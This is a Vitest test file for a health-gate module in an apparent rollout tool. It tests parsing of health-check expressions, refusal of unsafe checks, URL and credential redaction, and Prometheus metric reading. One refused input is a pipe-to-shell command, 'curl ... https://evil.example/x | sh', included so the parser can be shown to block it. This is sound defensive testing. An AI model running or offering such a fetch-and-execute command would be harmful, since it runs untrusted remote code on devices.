import { describe, expect, it } from 'vitest';
import {
  evaluateHealthGate,
  formatHealthCheck,
  meetsThreshold,
  parseHealthCheck,
  parseHealthGate,
  readMetricValue,
  readPrometheusValue,
  inlineCredential,
  redactUrl,
  scrubCredentials,
  summarizeGate,
  type CheckResult,
  type GateOutcome,
  type HealthCheck,
} from '../../../core/health';

describe('parseHealthCheck', () => {
  it.each<[string, HealthCheck]>([
    ['devices-online', { kind: 'devices-online' }],
    ['  all-runtimes-healthy  ', { kind: 'all-runtimes-healthy' }],
    ['error-rate < 0.01', { kind: 'error-rate', op: '<', threshold: 0.01 }],
    ['error-rate<=0.05', { kind: 'error-rate', op: '<=', threshold: 0.05 }],
    ['error-rate < 1e-3', { kind: 'error-rate', op: '<', threshold: 0.001 }],
    ['error-rate < .5', { kind: 'error-rate', op: '<', threshold: 0.5 }],
    ['check: motd-present', { kind: 'named', name: 'motd-present' }],
    ['check:app.v2_ready', { kind: 'named', name: 'app.v2_ready' }],
    ['http: http://127.0.0.1:8080/healthz', { kind: 'http', url: 'http://127.0.0.1:8080/healthz' }],
    [
      'http: https://status.example.com/api/ok?region=eu',
      { kind: 'http', url: 'https://status.example.com/api/ok?region=eu' },
    ],
    [
      'prometheus: max(wavegate_error_ratio) < 0.01',
      { kind: 'prometheus', query: 'max(wavegate_error_ratio)', op: '<', threshold: 0.01 },
    ],
    [
      'prometheus: sum(rate(http_requests_total{code=~"5.."}[5m])) / sum(rate(http_requests_total[5m])) <= 0.02',
      {
        kind: 'prometheus',
        query: 'sum(rate(http_requests_total{code=~"5.."}[5m])) / sum(rate(http_requests_total[5m]))',
        op: '<=',
        threshold: 0.02,
      },
    ],
    // the LAST comparator is the threshold: the query keeps its own
    ['prometheus: count(up < 1) < 1', { kind: 'prometheus', query: 'count(up < 1)', op: '<', threshold: 1 }],
    [
      'prometheus(http://prom.internal:9090): avg(x) < 3',
      { kind: 'prometheus', query: 'avg(x)', op: '<', threshold: 3, url: 'http://prom.internal:9090' },
    ],
  ])('%j parses', (text, check) => {
    expect(parseHealthCheck(text)).toEqual({ ok: true, check });
  });

  it.each<[string, RegExp]>([
    ['', /is empty/],
    ['   ', /is empty/],
    ['runtimes-healthy', /"runtimes-healthy" is not a known check/],
    ['Devices-Online', /is not a known check/],
    ['error-rate', /needs a comparison with a number/],
    ['error-rate > 0.01', /needs a comparison with a number/],
    ['error-rate < lots', /needs a comparison with a number/],
    ['error-rate < -0.1', /threshold -0.1, which must be a number >= 0/],
    [
      'command: curl -fsS https://evil.example/x | sh',
      /runs an unsigned shell command on every device.*health\.checks.*"check: <name>"/,
    ],
    ['command: systemctl is-active my-agent', /runs an unsigned shell command/],
    ['command:', /runs an unsigned shell command/],
    ['check: ', /is not a check name/],
    ['check: two words', /is not a check name/],
    ['check: ../etc', /is not a check name/],
    [
      'http: ftp://files.example.com/ok',
      /url "ftp:\/\/files.example.com\/ok", which must be an http:\/\/ or https:\/\/ url/,
    ],
    ['http: /healthz', /which must be an http/],
    ['http: http://a b', /without spaces/],
    ['http(x): http://a/b', /takes no argument/],
    ['prometheus: up', /needs a query and a threshold/],
    ['prometheus: < 0.5', /needs a query and a threshold/],
    ['prometheus: up > 1', /needs a query and a threshold/],
    ['prometheus(prom:9090): up < 1', /Prometheus url "prom:9090"/],
    [
      'http: https://bob@status.example.com/ok',
      /has a user:password@ in a url; secrets must not be written .* workflow history.*tokenEnv/,
    ],
    ['prometheus(http://bob:pw@prom:9090): up < 1', /has a user:password@ in a url/],
    ['http: https://status.example.com/ok?access_token=bobsecret', /has a secret-named query parameter/],
    ['http: https://status.example.com/ok?region=eu&apiKey=bobsecret', /has a secret-named query parameter/],
    ['prometheus(https://prom.example.com/?X-Amz-Signature=bobsig): up < 1', /has a secret-named query parameter/],
  ])('%j is refused (%s)', (text, why) => {
    const parsed = parseHealthCheck(text);
    expect(parsed.ok).toBe(false);
    if (parsed.ok) return;
    expect(parsed.message).toMatch(why);
    // every refusal names the text and lists what is allowed
    expect(parsed.message).toContain(JSON.stringify(redactUrl(text.trim())));
    expect(parsed.message).not.toMatch(/bob|:pw@/);
    expect(parsed.message).toContain(
      'allowed: devices-online, all-runtimes-healthy, check: <signed check name>, error-rate < <number>',
    );
    expect(parsed.message).toContain('prometheus: <query> < <number>');
  });

  it('refuses text that is not a string', () => {
    expect(parseHealthCheck(42 as unknown as string)).toMatchObject({
      ok: false,
      message: expect.stringMatching(/^health check 42 must be text/),
    });
  });

  it('parseHealthGate collects every refusal with its index', () => {
    expect(parseHealthGate(['devices-online', 'error-rate < 0.01'])).toEqual({
      ok: true,
      checks: [{ kind: 'devices-online' }, { kind: 'error-rate', op: '<', threshold: 0.01 }],
    });
    const bad = parseHealthGate(['devices-online', 'nope', 'http: x']);
    expect(bad.ok).toBe(false);
    if (bad.ok) return;
    expect(bad.messages).toHaveLength(2);
    expect(bad.messages[0]).toMatch(/^healthGate\[1\]: health check "nope"/);
    expect(bad.messages[1]).toMatch(/^healthGate\[2\]: health check "http: x"/);
  });

  it('formats a parsed check back to a text that parses to the same check', () => {
    for (const text of [
      'devices-online',
      'all-runtimes-healthy',
      'error-rate <= 0.5',
      'check: motd',
      'http: http://h/x',
      'prometheus: count(up < 1) < 1',
      'prometheus(http://p:9090): up <= 2',
    ]) {
      const parsed = parseHealthCheck(text);
      if (!parsed.ok) throw new Error(parsed.message);
      expect(formatHealthCheck(parsed.check)).toBe(text);
      expect(parseHealthCheck(formatHealthCheck(parsed.check))).toEqual(parsed);
    }
  });
});

describe('redactUrl', () => {
  it('hides userinfo and every query value, keeps the names, the path and the fragment', () => {
    expect(redactUrl('https://bob:hunter2@prom.example.com:9090/x')).toBe('https://***@prom.example.com:9090/x');
    expect(redactUrl('http://h/health?region=eu&access_token=abc123&apiKey=zz#frag')).toBe(
      'http://h/health?region=***&access_token=***&apiKey=***#frag',
    );
    expect(redactUrl('http://127.0.0.1:8080/healthz')).toBe('http://127.0.0.1:8080/healthz');
    expect(formatHealthCheck({ kind: 'http', url: 'http://u:p@h/ok?token=s' })).toBe('http: http://***@h/ok?token=***');
  });

  it("scrubCredentials hides urls' secrets, secret-named values and arguments, and Authorization values inside any text", () => {
    const text =
      'curl -H "Authorization: Bearer tok-1" --token tok-2 https://u:tok-3@h/x?q=tok-4 password=tok-5 api_key: tok-6 exit 7';
    const scrubbed = scrubCredentials(text);
    expect(scrubbed).not.toMatch(/tok-\d/);
    expect(scrubbed).toContain('https://***@h/x?q=***');
    expect(scrubbed).toContain('exit 7');
    expect(scrubCredentials('max error rate 0.2 (edge-02) over 4 devices is < 0.01')).toBe(
      'max error rate 0.2 (edge-02) over 4 devices is < 0.01',
    );
  });

  it('inlineCredential names what makes a url or command carry a secret, and passes references and plain ones', () => {
    expect(inlineCredential('https://u:p@h/x')).toMatch(/user:password@/);
    expect(inlineCredential('curl -fsS https://u:p@h/x')).toMatch(/user:password@/);
    expect(inlineCredential('https://h/x?sig=abc')).toMatch(/query parameter/);
    expect(inlineCredential('curl -H "Authorization: Bearer abc" https://h/')).toMatch(/Authorization header/);
    expect(inlineCredential('my-agent --password hunter2 status')).toMatch(/argument/);
    expect(inlineCredential('my-agent --token=abc status')).toMatch(/argument/);
    for (const plain of [
      'https://h/x?region=eu&monkey=1&author=me',
      'sim-runtime-health motd',
      'test -s "$HOME/etc/motd"',
      'curl -fsS --token-file /etc/app/token https://h/ok',
      'ssh-keygen --key-type ed25519',
    ]) {
      expect(inlineCredential(plain), plain).toBeUndefined();
    }
  });
});

describe('meetsThreshold', () => {
  it('distinguishes < from <= at the boundary', () => {
    expect(meetsThreshold(0.01, '<', 0.01)).toBe(false);
    expect(meetsThreshold(0.01, '<=', 0.01)).toBe(true);
    expect(meetsThreshold(0.009, '<', 0.01)).toBe(true);
    expect(meetsThreshold(Infinity, '<=', 1e9)).toBe(false);
  });
});

describe('evaluateHealthGate', () => {
  const r = (outcome: GateOutcome, check = `c-${outcome}`): CheckResult => ({
    check,
    outcome,
    evidence: `${outcome} evidence`,
    durationMs: 1,
  });

  it.each<[GateOutcome[], GateOutcome]>([
    [[], 'pass'],
    [['pass'], 'pass'],
    [['pass', 'pass'], 'pass'],
    [['pass', 'inconclusive'], 'inconclusive'],
    [['inconclusive', 'inconclusive'], 'inconclusive'],
    [['pass', 'fail'], 'fail'],
    [['inconclusive', 'fail', 'pass'], 'fail'],
    [['fail', 'inconclusive'], 'fail'],
  ])('%j → %s', (outcomes, expected) => {
    const results = outcomes.map((o, i) => r(o, `check-${i}`));
    expect(evaluateHealthGate(results)).toEqual({ outcome: expected, results });
  });

  it('summarizes with the checks that decided the outcome', () => {
    const gate = evaluateHealthGate([
      r('pass', 'devices-online'),
      r('fail', 'error-rate < 0.01'),
      r('inconclusive', 'http: http://h'),
    ]);
    expect(summarizeGate(gate)).toBe('fail: error-rate < 0.01 (fail evidence)');
    expect(summarizeGate(evaluateHealthGate([]))).toBe('pass: no health checks');
  });
});

describe('readMetricValue', () => {
  it.each<[string, number]>([
    ['0.2', 0.2],
    ['  0.002\n', 0.002],
    ['1e-4', 0.0001],
    ['{"value": 0.03}', 0.03],
    ['{"value": "0.04", "unit": "ratio"}', 0.04],
    ['7', 7],
  ])('%j reads as %d', (body, value) => {
    expect(readMetricValue(body)).toEqual({ ok: true, value });
  });

  it.each<[string, RegExp]>([
    ['', /empty output/],
    ['NaN', /not a number/],
    ['Infinity', /not a number/],
    ['0.2 errors', /not a number: "0.2 errors"/],
    ['{"rate": 0.1}', /without a "value" field/],
    ['{"value": null}', /"value" is null, not a number/],
    ['{"value": "high"}', /"value" is "high", not a number/],
  ])('%j cannot be read (%s)', (body, why) => {
    const read = readMetricValue(body);
    expect(read.ok).toBe(false);
    if (!read.ok) expect(read.reason).toMatch(why);
  });
});

describe('readPrometheusValue', () => {
  const vector = (...values: Array<[Record<string, string>, string]>) => ({
    status: 'success',
    data: { resultType: 'vector', result: values.map(([metric, v]) => ({ metric, value: [1_700_000_000.1, v] })) },
  });

  it('reads a scalar', () => {
    expect(readPrometheusValue({ status: 'success', data: { resultType: 'scalar', result: [1, '0.5'] } })).toEqual({
      ok: true,
      value: 0.5,
      series: 1,
    });
  });

  it('takes the max over the series of a vector and names it', () => {
    const read = readPrometheusValue(
      vector(
        [{ __name__: 'x', instance: 'a' }, '0.1'],
        [{ __name__: 'x', instance: 'b' }, '0.3'],
        [{ __name__: 'x', instance: 'c' }, '0.2'],
      ),
    );
    expect(read).toEqual({ ok: true, value: 0.3, series: 3, label: 'x{instance="b"}' });
  });

  it('reads +Inf as a value over any threshold', () => {
    expect(readPrometheusValue(vector([{}, '+Inf']))).toMatchObject({ ok: true, value: Infinity });
  });

  it.each<[unknown, RegExp]>([
    [null, /not a JSON object/],
    [
      { status: 'error', errorType: 'bad_data', error: 'parse error at char 5' },
      /Prometheus says bad_data: parse error at char 5/,
    ],
    [{ status: 'success', data: { resultType: 'vector', result: [] } }, /returned no series/],
    [
      { status: 'success', data: { resultType: 'matrix', result: [] } },
      /result type "matrix" is not a scalar or an instant vector/,
    ],
    [
      { status: 'success', data: { resultType: 'vector', result: [{ metric: { __name__: 'x' }, value: [1, 'NaN'] }] } },
      /series x\{\} has value .*not a number/,
    ],
  ])('%j cannot be judged (%s)', (json, why) => {
    const read = readPrometheusValue(json);
    expect(read.ok).toBe(false);
    if (!read.ok) expect(read.reason).toMatch(why);
  });
});
